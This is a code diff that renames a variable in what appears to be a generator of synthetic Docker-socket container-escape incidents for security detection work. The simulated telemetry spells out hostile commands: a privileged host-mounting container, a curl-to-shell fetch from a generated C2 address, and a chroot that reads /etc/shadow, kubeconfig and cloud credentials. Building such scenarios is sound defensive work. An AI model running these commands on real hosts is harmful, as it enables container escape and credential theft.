@@ -28,7 +28,7 @@ export const dockerSocketEscape: StorylineDefinition = {
 };
 
 function buildDockerSocketEscape(random: Random): Storyline {
-  const ROGUE = `k8s_POD_${nameFrom(random, SYSTEM_LOOKALIKE_NAMES)}`;
+  const rogueName = `k8s_POD_${nameFrom(random, SYSTEM_LOOKALIKE_NAMES)}`;
   const c2 = externalIp(random);
   const cronFile = `/etc/cron.d/${random.pick(CRON_FILE_NAMES)}`;
   const script = random.pick(SCRIPT_NAMES);
@@ -37,13 +37,13 @@ function buildDockerSocketEscape(random: Random): Storyline {
   // The build pool is scaled by hand; which instance runs the agent changes from one case to the next.
   const buildNode = { ...BUILDPOOL_NODE, name: BUILDPOOL_NODE.name.replace(/\d$/, String(random.int(0, 4))) };
   const node = buildNode.name;
-  const runRogue = `docker run -d --privileged --pid=host --net=host -v /:/host --name ${ROGUE} ${rogueImage} sleep infinity`;
+  const runRogue = `docker run -d --privileged --pid=host --net=host -v /:/host --name ${rogueName} ${rogueImage} sleep infinity`;
   const fetch = `curl -fsSL http://${c2}/${script} | sh`;
   return {
     id: dockerSocketEscape.id,
     title: dockerSocketEscape.title,
     summary: dockerSocketEscape.summary,
-    indicators: { rogueContainer: ROGUE, c2, cronFile, job, node },
+    indicators: { rogueContainer: rogueName, c2, cronFile, job, node },
     attackHourUtc: 13,
     setup: { extraNodes: [buildNode], extraWorkloads: [buildAgentWorkload('buildpool')] },
     actors: {},
@@ -106,7 +106,7 @@ function buildDockerSocketEscape(random: Random): Storyline {
             type: 'process',
             pod: AGENT,
             exe: '/usr/bin/docker',
-            cmdline: `docker exec ${ROGUE} chroot /host /bin/bash -c 'id; head -3 /etc/shadow; cat /var/lib/kubelet/kubeconfig; cat /etc/kubernetes/azure.json'`,
+            cmdline: `docker exec ${rogueName} chroot /host /bin/bash -c 'id; head -3 /etc/shadow; cat /var/lib/kubelet/kubeconfig; cat /etc/kubernetes/azure.json'`,
             parentExe: '/usr/bin/bash',
             user: 'root',
           },
